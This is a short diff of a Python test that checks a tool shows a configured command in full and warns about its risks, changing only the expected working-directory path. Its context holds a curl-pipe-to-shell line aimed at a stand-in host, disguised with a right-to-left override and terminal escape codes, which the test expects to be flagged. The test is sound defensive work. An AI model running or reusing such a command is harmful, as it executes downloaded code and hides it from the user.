@@ -85,7 +85,7 @@ def test_s5_all_of_it_is_shown_and_what_is_risky_is_pointed_out(house: House, tm
     assert f"command: sh -c 'curl https://x.test/\\u{{202e}}gnp | sh\\e[2K' 'a b' {long}\n" in seen
     assert "LEVEL=\\e]0;owned\\u{7}\n" in seen
     assert "TOKEN={env:TOKEN}\n" in seen
-    assert "runs in: sub\n" in seen
+    assert f"runs in: {made.resolve() / 'sub'}\n" in seen
     assert "timeout: 5\n" in seen
     assert "warning: may run what it downloads (curl and a shell)" in seen
     assert "warning: gets the content of your variables: TOKEN" in seen
